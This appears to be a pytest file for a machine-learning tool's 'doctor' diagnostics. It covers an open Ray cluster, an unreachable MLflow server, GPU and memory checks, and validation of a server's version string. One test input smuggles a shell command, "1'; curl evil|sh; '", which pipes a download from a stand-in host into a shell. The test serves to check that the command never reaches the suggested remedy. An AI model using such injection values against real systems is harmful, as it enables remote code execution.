"""The doctor tests real things: a cluster that it starts, a port where nobody listens, the devices of this machine."""

import json
import socketserver
import threading

import pytest
import torch

from muxfer.commands.doctor import _loopback, _server, ledger, machine, versions
from muxfer.study.resolve import resolve_without_data
from tests.typed import muxfer

pytestmark = pytest.mark.usefixtures("empty_folder")


@pytest.mark.slow
def test_an_open_cluster_and_an_unreachable_ledger_fail_with_remedies_and_leave_no_files(empty_folder):
    uri = "ledger.tracking_uri=http://user:s3cret@127.0.0.1:9"
    ran = muxfer(empty_folder, "doctor", uri, "--json", RAY_AUTH_MODE="disabled")
    assert ran.returncode == 6, ran.stderr
    assert "s3cret" not in ran.stdout + ran.stderr
    data = json.loads(ran.stdout)
    failed = {one["part"]: one for one in data["findings"] if one["state"] == "fail"}
    assert failed.keys() == {"ray", "ledger"}
    assert "asks for no token and listens beyond this machine" in failed["ray"]["told"]
    assert "RAY_AUTH_MODE=token" in failed["ray"]["mend"]
    assert "connection refused" in failed["ledger"]["told"]
    assert any(one["told"].startswith("started in") for one in data["findings"])
    assert not list(empty_folder.rglob("*"))


def test_the_installed_versions_pass():
    (finding,) = versions()
    assert finding.state == "ok"
    assert f"torch {torch.__version__.partition('+')[0]}" in finding.message


def test_more_slots_than_memory_and_a_missing_gpu_are_reported():
    findings = list(machine(resolve_without_data("lr-width", ["compute.slots=100000", "compute.device=cuda"])))
    devices = next(finding for finding in findings if finding.part == "devices")
    assert devices.state == ("ok" if torch.cuda.is_available() else "fail")
    (memory,) = [finding for finding in findings if "100000 slots" in finding.message]
    assert memory.state == "warn"
    assert memory.remedy.startswith("fewer slots, compute.slots=")


def test_a_ledger_that_does_not_exist_yet_passes_and_is_not_created(empty_folder):
    (finding,) = ledger(resolve_without_data("lr-width"))
    assert finding.state == "ok"
    assert not list(empty_folder.iterdir())


@pytest.fixture
def server(request):
    """The address of a server on loopback that answers every request with the given bytes."""

    class Handler(socketserver.StreamRequestHandler):
        def handle(self):
            while self.rfile.readline().strip():
                pass
            self.wfile.write(request.param)

    with socketserver.TCPServer(("127.0.0.1", 0), Handler) as listening:
        threading.Thread(target=listening.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{listening.server_address[1]}"
        listening.shutdown()


def response(body):
    return b"HTTP/1.0 200 OK\r\n\r\n" + body


@pytest.mark.parametrize(
    "server",
    [
        response(b"1'; curl evil|sh; '"),
        response(b"3.1\n; evil"),
        response(b"<html>"),
        response(b""),
        response(b"1" + b"\xff"),
    ],
    indirect=True,
)
def test_a_server_version_that_is_no_version_never_enters_the_remedy(server):
    (finding,) = _server(server, server)
    assert (finding.state, finding.message) == ("warn", "the server's answer to /version is no version")
    assert "pip" not in finding.remedy
    assert "evil" not in finding.remedy


@pytest.mark.parametrize("server", [response(b"1.30.0rc1\n")], indirect=True)
def test_a_server_of_another_major_version_is_reported_with_a_remedy(server):
    (finding,) = _server(server, server)
    assert (finding.state, finding.message) == ("warn", "server is MLflow 1.30.0rc1")
    assert finding.remedy.startswith("pip install 'mlflow==1.30.0rc1' here, or ")


@pytest.mark.parametrize("server", [b"no HTTP at all\r\n"], indirect=True)
def test_a_server_without_http_has_no_version(server):
    assert list(_server(server, server)) == []


@pytest.mark.parametrize(
    ("host", "expected"), [("127.0.0.1", True), ("localhost", True), ("::1", True), ("192.0.2.1", False), ("", False)]
)
def test_loopback_hosts_are_recognized(host, expected):
    assert _loopback(host) is expected
